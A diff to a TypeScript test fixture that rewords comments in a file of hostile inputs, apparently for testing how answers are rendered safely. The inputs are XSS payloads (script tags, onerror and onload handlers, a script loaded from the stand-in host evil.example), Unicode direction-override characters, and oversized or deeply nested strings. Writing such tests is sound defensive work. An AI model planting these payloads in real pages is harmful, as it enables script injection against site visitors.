@@ -1,9 +1,9 @@
-/** What somebody who writes pages for engines to read might try: everything runs `hacked` when it is taken for code. */
+/** What an author of pages for engines might try: every trick calls `hacked` if it is executed as code. */
 export const runs = 'window.hacked=1'
 export const evil = `<img src=x onerror="${runs}">`
 const foreign = 'https://evil.example'
 
-/** Ways of making a browser run, load or move something, as an answer would hold them. */
+/** Ways to make a browser execute, load or move something, as an answer would contain them. */
 export const tricks: readonly string[] = [
   `<script>${runs}</script><script src="${foreign}/a.js"></script>`,
   `${evil} <svg onload="${runs}"><animate onbegin="${runs}" attributeName=x dur=1s></svg>`,
@@ -29,7 +29,7 @@ export const tricks: readonly string[] = [
   `\u202Eevil\u202C \u2066mixed \u202E <b>bold\u200B\uFEFF\uFFFD\u{1F468}\u200D end`,
 ]
 
-/** Answers that are made to take a page's breath: far too long, or nested far too deep. */
+/** Answers made to overload a page: far too long, or nested far too deep. */
 export const heavy: Readonly<Record<string, string>> = {
   'one word of 200,000 letters': `Torrefa ${'x'.repeat(200_000)}`,
   'quotes in quotes': `${'> '.repeat(3000)}Torrefa`,
